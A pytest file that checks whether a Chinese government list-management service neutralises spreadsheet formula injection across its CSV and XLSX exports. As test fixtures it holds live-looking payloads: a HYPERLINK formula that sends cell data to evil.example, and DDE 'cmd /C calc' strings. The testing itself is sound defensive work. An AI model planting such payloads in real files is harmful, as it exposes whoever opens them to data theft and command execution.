"""No export carries a formula: a hostile list's text is in every CSV and XLSX as readable text.

The list is uploaded by anyone (POST /api/validate) or published by a department; its cells reach
the department downloads, the overlap and gap exports and the review workbook. Each is opened with
openpyxl (XLSX) or read as CSV: no cell is a formula or begins with = + - @ tab or CR, and the
hostile text is still there behind the apostrophe that neutralises it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from quanze.service.cli import main as cli
from quanze.service.spreadsheets import FORMULA_LEADS, neutral

from tests.conftest import SAMPLE
from tests.service.listmaker import HEADER, SPECIAL

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
MARKET, CITY = "青禾市市场监督管理局", "青禾市城市管理局"


def _write_text_list(path: Path, title: str, rows: list[list[str]]) -> None:
    """A list whose cells are text as typed (openpyxl would otherwise store "=…" as a formula)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "清单"
    for r, values in enumerate([[title], HEADER, *rows], start=1):
        for c, value in enumerate(values, start=1):
            ws.cell(row=r, column=c, value=value).data_type = "s"
    wb.save(path)


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two departments listing the same hostile powers (so overlaps find them), then every export."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "lists"
    folder.mkdir()
    for dept, units in ((MARKET, "+执法科"), (CITY, "@执法科")):
        basis = f"{SPECIAL}\n第八条"
        rows = [[str(k), name, "行政处罚", basis, dept, units, "市级", "=1+1"] for k, name in enumerate(HOSTILE, 1)]
        rows.append([str(len(rows) + 1), "\t=对无依据事项的处罚", "行政处罚", "", dept, units, "市级", "\r=2"])
        _write_text_list(folder / f"{dept}.xlsx", f"{dept}权责清单", rows)
    store, out = str(root / "store"), root / "out"
    out.mkdir()
    argv = ["--store", store]
    assert cli.main(["load", *argv, "--quiet", str(SAMPLE / "statutes"), str(folder)]) == 0
    assert cli.main(["publish", *argv, "--quiet", str(out / "site")]) == 0
    for command in ("overlaps", "gaps"):  # checks: they exit with 1 when they find something, as here
        for fmt in ("csv", "xlsx"):
            assert cli.main([command, *argv, "--quiet", "--format", fmt, "-o", str(out / f"{command}.{fmt}")]) == 1
    assert cli.main(["validate", *argv, "--quiet", "--format", "xlsx", "-o", str(out / "validate.xlsx")]) == 1
    return out


def _xlsx_cells(path: Path) -> list[tuple[str, object, str]]:
    wb = load_workbook(path)
    return [(ws.title, c.value, c.data_type) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def _csv_cells(path: Path) -> list[str]:
    return [v for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for v in row]


def _files(exports: Path) -> tuple[list[Path], list[Path]]:
    xlsx = sorted(exports.rglob("*.xlsx"))
    csvs = sorted(exports.rglob("*.csv"))
    return xlsx, csvs


def test_every_export_was_written(exports: Path) -> None:
    xlsx, csvs = _files(exports)
    names = {p.name for p in xlsx + csvs}
    assert {"overlaps.xlsx", "overlaps.csv", "gaps.xlsx", "gaps.csv", "validate.xlsx"} <= names
    downloads = [p for p in xlsx + csvs if p.parent.parent.name == "download"]
    assert len(downloads) == 4  # both departments, CSV and XLSX


def test_no_xlsx_cell_is_a_formula_and_the_text_is_readable(exports: Path) -> None:
    xlsx, _ = _files(exports)
    for path in xlsx:
        cells = _xlsx_cells(path)
        formulas = [(sheet, v) for sheet, v, kind in cells if kind == "f"]
        assert formulas == [], path.name
        leading = [(sheet, v) for sheet, v, _ in cells if isinstance(v, str) and v.startswith(FORMULA_LEADS)]
        assert leading == [], path.name
    for name in ("validate.xlsx", "overlaps.xlsx"):
        texts = " ".join(str(v) for _, v, _ in _xlsx_cells(exports / name))
        assert "'" + HYPERLINK in texts, name  # still there, as text
    download = next(p for p in xlsx if p.parent.parent.name == "download")
    assert "'" + HYPERLINK in [v for _, v, _ in _xlsx_cells(download)]


def test_no_csv_cell_starts_a_formula(exports: Path) -> None:
    _, csvs = _files(exports)
    assert csvs
    for path in csvs:
        cells = _csv_cells(path)
        assert [v for v in cells if v.startswith(FORMULA_LEADS)] == [], path.name
    download = next(p for p in csvs if p.parent.parent.name == "download")
    assert "'" + HYPERLINK in _csv_cells(download)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_the_neutraliser(text: str) -> None:
    assert neutral(text) == "'" + text
    assert neutral("权责" + text) == "权责" + text and neutral(-1) == -1 and neutral(None) is None
